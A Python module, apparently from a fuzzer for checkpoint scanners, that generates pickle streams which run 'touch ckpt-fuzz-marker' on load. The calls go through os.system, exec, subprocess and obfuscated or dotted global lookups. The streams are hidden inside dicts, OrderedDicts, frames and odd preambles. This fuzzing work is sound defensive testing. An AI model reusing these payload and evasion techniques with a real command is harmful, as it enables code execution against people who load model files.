"""Small pickles that run a command when a real unpickler loads them, for the mutators.

Every payload runs ``touch ckpt-fuzz-marker`` (a path relative to the loader's working
folder), so the torch oracle (:mod:`oracle`) can prove a payload is live by running the
loader in a scratch folder and looking for the marker there. Nothing here imports torch
or unpickles anything: the streams are written opcode by opcode, as the hostile ones are.
"""

from __future__ import annotations

import random
import struct

MARKER = "ckpt-fuzz-marker"
COMMAND = f"touch {MARKER}"


def _str(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _short(s: str) -> bytes:
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _stack_global(module: str, name: str) -> bytes:
    return _short(module) + _short(name) + b"\x93"


def _rot13(s: str) -> str:
    return s.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz",
                                     "nopqrstuvwxyzabcdefghijklm"))


def _computed(module: str, name: str) -> bytes:
    """STACK_GLOBAL whose names come from ``_codecs.decode(..., 'rot13')`` at load time."""
    def hidden(s: str) -> bytes:
        return _stack_global("_codecs", "decode") + _str(_rot13(s)) + _str("rot13") + b"\x86R"
    return hidden(module) + hidden(name) + b"\x93"


def _call(func: bytes, arg: bytes = b"") -> bytes:
    return func + (arg or _str(COMMAND)) + b"\x85R"


# The call itself, without PROTO and STOP, so that it can be wrapped in other objects.
BODIES = {
    "os.system": lambda: _call(_stack_global("os", "system")),
    "posix.system": lambda: _call(_stack_global("posix", "system")),
    "text-global": lambda: b"cos\nsystem\n" + _str(COMMAND) + b"\x85R",
    "exec": lambda: _call(_stack_global("builtins", "exec"),
                          _str(f"open({MARKER!r}, 'w').close()")),
    "subprocess": lambda: (_stack_global("subprocess", "call") + b"(" + b"]" + b"("
                           + _str("touch") + _str(MARKER) + b"e" + b"t" + b"R"),
    "computed": lambda: _call(_computed("os", "system")),
    "dotted": lambda: _call(_stack_global("argparse", "_os.system")),
}

# What may come before the payload's first real opcode: loaders accept them all.
PREAMBLES = (
    b"\x80\x02", b"\x80\x04", b"\x80\x05", b"\x80\x03",
    b"",  # no PROTO at all (protocol 0 and 1 streams start with anything)
    b"N0",  # NONE, POP
    b"(1",  # MARK, POP_MARK
    b"\x80\x02N\x940",  # MEMOIZE before the payload
    b"I0\n0",  # a text INT, popped
    b"\x80\x05\x80\x02",  # a second PROTO
    # binary opcodes first, without PROTO (unpicklers take any opcode anywhere)
    b"\x8c\x000", b"\x880", b"K\x000", b"\x8f0", b"]0", b")0", b"\x8a\x000", b"C\x000",
    b"G" + b"\0" * 8 + b"0", b"}0",
)


def body(rng: random.Random) -> bytes:
    return rng.choice(list(BODIES.values()))()


def framed(inner: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(inner)) + inner


def payload_pickle(rng: random.Random) -> bytes:
    """A complete stream whose loading runs the command, in one of many shapes."""
    inner = body(rng)
    shape = rng.randrange(6)
    if shape == 1:  # inside a dict, as a state_dict value
        inner = b"}" + _str("w") + inner + b"s"
    elif shape == 2:  # inside a list
        inner = b"](" + inner + b"e"
    elif shape == 3:  # as the state of a harmless-looking OrderedDict
        inner = _stack_global("collections", "OrderedDict") + b")R" + b"}" + _str("x") + inner \
            + b"sb"
    pre = rng.choice(PREAMBLES)
    if shape == 4:  # in a FRAME, with or without PROTO in front
        return (b"\x80\x04" if rng.random() < 0.5 else b"") + framed(pre + inner + b".")
    if shape == 5:  # protocol 0, as old files are written
        return b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."
    return pre + inner + b"."


def benign_pickle(rng: random.Random) -> bytes:
    """Small inert streams (ints, dicts, a torch-like OrderedDict) for swaps and splices."""
    return rng.choice((
        b"\x80\x02K\x01.",
        b"\x80\x02}q\x00X\x01\x00\x00\x00aK\x01s.",
        b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01.",
        b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00]\x94K\x01a.",
        b"(lp0\nI1\na.",
        b"\x80\x02}X\x03\x00\x00\x00\xed\xb3\xbfK\x01s.",  # a key with a lone surrogate
    ))


def odd_prefix(rng: random.Random, stream: bytes) -> bytes:
    """The same stream with an unusual first opcode in front (all loaders accept these)."""
    return rng.choice(PREAMBLES) + stream
